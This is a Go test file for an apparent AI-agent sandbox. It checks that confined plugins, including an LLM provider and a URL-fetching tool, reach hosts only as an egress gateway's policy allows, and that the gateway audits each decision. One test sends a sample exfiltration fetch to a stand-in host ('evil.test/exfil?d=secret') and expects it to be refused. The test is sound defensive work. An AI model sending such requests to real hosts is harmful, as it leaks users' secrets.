package runtime

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	goruntime "runtime"
	"strings"
	"sync"
	"testing"
	"time"

	ll "github.com/landlock-lsm/go-landlock/landlock/syscall"

	"github.com/nemoclave/nemoclave/blueprints"
	"github.com/nemoclave/nemoclave/gateway/egress"
	"github.com/nemoclave/nemoclave/policy"
	"github.com/nemoclave/nemoclave/sandbox"
	"github.com/nemoclave/nemoclave/sandbox/confine"
	"github.com/nemoclave/nemoclave/sdk/tools"
)

type nameResolver map[string]netip.Addr

func (m nameResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := m[host]; ok {
		return []netip.Addr{a}, nil
	}
	return nil, fmt.Errorf("no such host %s", host)
}

var (
	boxDirOnce sync.Once
	boxDir     string
	boxDirErr  error
)

// confinedBinDir is a plugin directory as a release lays it out: the test
// plugins beside a real nemoclave-pluginbox, the boxes' init stage, built
// once for the package.
func confinedBinDir(t *testing.T) string {
	t.Helper()
	if abi, err := ll.LandlockGetABIVersion(); err != nil || abi < confine.DefaultMinLandlockABI {
		t.Skipf("kernel Landlock ABI %d (%v) is below %d; plugin boxes refuse to start here", abi, err, confine.DefaultMinLandlockABI)
	}
	boxDirOnce.Do(func() {
		boxDir = filepath.Join(pluginDir, "confined")
		if boxDirErr = os.MkdirAll(boxDir, 0o755); boxDirErr != nil {
			return
		}
		_, file, _, _ := goruntime.Caller(0)
		root := filepath.Join(filepath.Dir(file), "..", "..")
		if out, err := exec.Command("go", "build", "-C", root, "-o", filepath.Join(boxDir, "nemoclave-plugin-tools-http"), "./plugins/tools-http").CombinedOutput(); err != nil {
			boxDirErr = fmt.Errorf("build tools-http: %v\n%s", err, out)
			return
		}
		for _, f := range []string{"nemoclave-plugin-llm-openai", "nemoclave-plugin-llm-replay"} {
			b, err := os.ReadFile(filepath.Join(pluginDir, f))
			if err == nil {
				err = os.WriteFile(filepath.Join(boxDir, f), b, 0o755)
			}
			if err != nil {
				boxDirErr = err
				return
			}
		}
		if out, err := exec.Command("go", "build", "-C", root, "-o", filepath.Join(boxDir, "nemoclave-pluginbox"), "./sandbox/pluginbox/cmd/nemoclave-pluginbox").CombinedOutput(); err != nil {
			boxDirErr = fmt.Errorf("build the plugin box: %v\n%s", err, out)
		}
	})
	if boxDirErr != nil {
		t.Fatal(boxDirErr)
	}
	return boxDir
}

// TestPluginEgressThroughGateway is PL2 as the daemon wires it: a real,
// confined llm-openai plugin whose base_url names a remote host reaches
// it only through the daemon's egress gateway, and the call is audited
// under the plugin's identity.
func TestPluginEgressThroughGateway(t *testing.T) {
	binDir := confinedBinDir(t)

	// The "provider" on a loopback address other than the host's own, the
	// only place this test may send traffic to; a name resolves to it.
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("127.0.0.2 not usable here: %v", err)
	}
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"object":"list","data":[{"id":"through-the-gateway","object":"model"}]}`)
	}))
	up.Listener.Close()
	up.Listener = ln
	up.Start()
	defer up.Close()
	port := ln.Addr().(*net.TCPAddr).Port

	home := t.TempDir()
	r, err := New(context.Background(), Options{
		Home: home, Drivers: map[string]sandbox.Driver{"local": newFakeDriver(0)}, Executable: "/bin/true", PluginBinDir: binDir,
		ConfinePlugins: true, EgressResolver: nameResolver{"provider.test": netip.MustParseAddr("127.0.0.2")}, UnsafeAllowLoopback: true,
		Credential: func(name string) (string, error) { return "", fmt.Errorf("no credential %s", name) },
	})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close(context.Background())

	cfg, _ := json.Marshal(map[string]any{"base_url": fmt.Sprintf("http://provider.test:%d/v1", port), "api_key": "sk-test-not-a-secret"})
	p := &blueprints.Plugin{Kind: "llm", Name: "up", Address: "plugin.llm.up", Source: "builtin/llm-openai", SourceType: blueprints.SourceBuiltin, Config: cfg}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	s, err := r.startPlugin(ctx, nil, p, launched{}, nil, nil)
	if err != nil {
		t.Fatalf("start the confined provider plugin: %v", err)
	}
	defer s.Close()
	models, err := s.LLM().ListModels(ctx)
	if err != nil {
		t.Fatalf("the confined plugin could not reach its provider through the gateway: %v", err)
	}
	if len(models) != 1 || models[0].ID != "through-the-gateway" {
		t.Fatalf("models %+v", models)
	}

	// The gateway writes the request's "allow" line when the request is
	// done, which may be a moment after the plugin has its answer.
	path := filepath.Join(home, "audit", "egress.jsonl")
	found := func() bool {
		f, err := os.Open(path)
		if err != nil {
			return false
		}
		defer f.Close()
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			var ev egress.Event
			if json.Unmarshal(sc.Bytes(), &ev) == nil && strings.HasPrefix(ev.Sandbox, "plugin.llm.up#") && ev.Host == "provider.test" && ev.Decision == "allow" {
				return true
			}
		}
		return false
	}
	for wait := time.Now().Add(30 * time.Second); !found(); time.Sleep(50 * time.Millisecond) {
		if time.Now().After(wait) {
			b, _ := os.ReadFile(path)
			t.Fatalf("no allow line for the plugin's call in the audit log after 30s:\n%s", b)
		}
	}
}

// TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy: tools-http fetches for
// the agent, so a real confined tools-http reaches exactly what the
// policy of its agent's sandbox allows, through the egress gateway, and
// every fetch is audited under the plugin's identity: the allowed host is
// fetched, another host on the same address is refused until the
// sandbox's policy allows it (then at once, while the plugin runs), and a
// tools-http no agent uses reaches nothing.
func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
	binDir := confinedBinDir(t)
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("127.0.0.2 not usable here: %v", err)
	}
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprint(w, "page of "+r.Host)
	}))
	up.Listener.Close()
	up.Listener = ln
	up.Start()
	defer up.Close()
	port := ln.Addr().(*net.TCPAddr).Port

	// An HTTPS server the policy inspects (TLS terminated by the gateway
	// with the launch's CA, which the plugin must trust), with a
	// certificate for its name that the gateway trusts as the corporate CA.
	certPEM, cert := selfSigned(t, "secure.test")
	sln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	secure := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprint(w, "secure page "+r.URL.Path)
	}))
	secure.Listener.Close()
	secure.Listener = sln
	secure.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	secure.StartTLS()
	defer secure.Close()
	securePort := sln.Addr().(*net.TCPAddr).Port
	caFile := filepath.Join(t.TempDir(), "corp-ca.pem")
	if err := os.WriteFile(caFile, certPEM, 0o600); err != nil {
		t.Fatal(err)
	}

	home := t.TempDir()
	lo2 := netip.MustParseAddr("127.0.0.2")
	r, err := New(context.Background(), Options{
		Home: home, Drivers: map[string]sandbox.Driver{"local": newFakeDriver(0)}, Executable: "/bin/true", PluginBinDir: binDir,
		UpstreamCAFile: caFile,
		ConfinePlugins: true, EgressResolver: nameResolver{"docs.test": lo2, "evil.test": lo2, "secure.test": lo2, "later.test": lo2}, UnsafeAllowLoopback: true,
		Credential: func(name string) (string, error) { return "", fmt.Errorf("no credential %s", name) },
	})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close(context.Background())

	pol := &policy.Policy{Name: "p", Revision: 1, UnknownHosts: policy.UnknownDeny, Filesystem: policy.Filesystem{ReadOnly: []string{"/usr"}},
		Network: []policy.NetworkRule{{Name: "docs", Endpoints: []policy.Endpoint{
			{Host: "docs.test", Ports: []int{port}},
			{Host: "secure.test", Ports: []int{securePort}, Inspect: true, Allow: []policy.HTTPRule{{Methods: []string{"GET"}, Paths: []string{"/public/**"}}}},
		}}}}
	// The sandbox's policy in the gateway, as configureGateway sets it.
	if err := r.egress.SetPolicy("s", pol); err != nil {
		t.Fatal(err)
	}
	bp := &blueprints.Blueprint{
		Sandboxes: []*blueprints.Sandbox{{Name: "s", Policy: pol}},
		Agents:    []*blueprints.Agent{{Name: "a", Sandbox: "s", Tools: []string{"web"}}},
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	fetch := func(s interface {
		Tools() tools.Provider
	}, url string) string {
		t.Helper()
		res, err := s.Tools().CallTool(ctx, &tools.CallRequest{Name: "fetch_url", Arguments: json.RawMessage(`{"url":"` + url + `"}`)})
		if err != nil {
			t.Fatalf("fetch_url %s: %v", url, err)
		}
		var b strings.Builder
		for _, c := range res.Content {
			b.WriteString(c.Text)
		}
		return fmt.Sprintf("error=%v %s", res.IsError, b.String())
	}

	web := &blueprints.Plugin{Kind: "tools", Name: "web", Address: "plugin.tools.web", Source: "builtin/tools-http", SourceType: blueprints.SourceBuiltin, Config: json.RawMessage(`{}`)}
	s, err := r.startPlugin(ctx, bp, web, launched{}, nil, nil)
	if err != nil {
		t.Fatalf("start the confined tools-http: %v", err)
	}
	defer s.Close()
	allowed := fmt.Sprintf("http://docs.test:%d/guide", port)
	if got := fetch(s, allowed); !strings.Contains(got, "page of docs.test") || strings.HasPrefix(got, "error=true") {
		t.Errorf("the host the sandbox's policy allows was not fetched: %s", got)
	}
	if got := fetch(s, fmt.Sprintf("http://evil.test:%d/exfil?d=secret", port)); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "page of") {
		t.Errorf("a host outside the sandbox's policy was fetched: %s", got)
	}
	// A host the operator adds to the sandbox's policy while the plugin
	// runs (an approval, `policy set`) is fetched at once: the plugin is
	// judged by the sandbox's policy in force, not the one it started with.
	later := pol.Clone()
	later.Revision = 2
	later.Network = append(later.Network, policy.NetworkRule{Name: "approved", Source: "approval", Endpoints: []policy.Endpoint{{Host: "later.test", Ports: []int{port}}}})
	laterURL := fmt.Sprintf("http://later.test:%d/new", port)
	if got := fetch(s, laterURL); !strings.HasPrefix(got, "error=true") {
		t.Errorf("later.test was fetched before it was approved: %s", got)
	}
	if err := r.egress.SetPolicy("s", later); err != nil {
		t.Fatal(err)
	}
	if got := fetch(s, laterURL); !strings.Contains(got, "page of later.test") || strings.HasPrefix(got, "error=true") {
		t.Errorf("a host approved while the plugin runs was not fetched: %s", got)
	}
	// The inspected endpoint: the plugin trusts its launch's CA, and the
	// policy's HTTP rules hold for its fetches as for the agent's.
	if got := fetch(s, fmt.Sprintf("https://secure.test:%d/public/a", securePort)); !strings.Contains(got, "secure page /public/a") || strings.HasPrefix(got, "error=true") {
		t.Errorf("an inspected endpoint the policy allows was not fetched: %s", got)
	}
	if got := fetch(s, fmt.Sprintf("https://secure.test:%d/private/b", securePort)); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "secure page") {
		t.Errorf("a path the inspected endpoint's rules do not allow was fetched: %s", got)
	}

	// The same plugin used by no agent gets an empty policy (and its own
	// process: the pool keys launches by their egress too).
	idle := &blueprints.Plugin{Kind: "tools", Name: "idle", Address: "plugin.tools.idle", Source: "builtin/tools-http", SourceType: blueprints.SourceBuiltin, Config: json.RawMessage(`{}`)}
	s2, err := r.startPlugin(ctx, bp, idle, launched{}, nil, nil)
	if err != nil {
		t.Fatalf("start the second tools-http: %v", err)
	}
	defer s2.Close()
	if got := fetch(s2, allowed); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "page of") {
		t.Errorf("a tools-http no agent uses fetched %s: %s", allowed, got)
	}

	// A refusal is audited before its answer is sent, an allowed request
	// when it is done (after the plugin may have its answer): wait for the
	// lines rather than read the log once.
	var allow, deny, idleDeny bool
	var b []byte
	for wait := time.Now().Add(30 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		b, _ = os.ReadFile(filepath.Join(home, "audit", "egress.jsonl"))
		for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
			var ev egress.Event
			if json.Unmarshal([]byte(line), &ev) != nil {
				continue
			}
			switch {
			case strings.HasPrefix(ev.Sandbox, "plugin.tools.web#") && ev.Host == "docs.test" && ev.Decision == "allow":
				allow = true
			case strings.HasPrefix(ev.Sandbox, "plugin.tools.web#") && ev.Host == "evil.test" && ev.Decision == "deny":
				deny = true
			case strings.HasPrefix(ev.Sandbox, "plugin.tools.idle#") && ev.Host == "docs.test" && ev.Decision == "deny":
				idleDeny = true
			}
		}
		if (allow && deny && idleDeny) || time.Now().After(wait) {
			break
		}
	}
	if !allow || !deny || !idleDeny {
		t.Errorf("audit lines under the plugins' identities (waited up to 30s): allow %v, deny %v, idle deny %v:\n%s", allow, deny, idleDeny, b)
	}
}

// selfSigned returns a self-signed certificate for host, as PEM and as a
// tls.Certificate.
func selfSigned(t *testing.T, host string) ([]byte, tls.Certificate) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: host}, DNSNames: []string{host},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true,
		KeyUsage:    x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	keyDER, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := tls.X509KeyPair(certPEM, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER}))
	if err != nil {
		t.Fatal(err)
	}
	return certPEM, cert
}
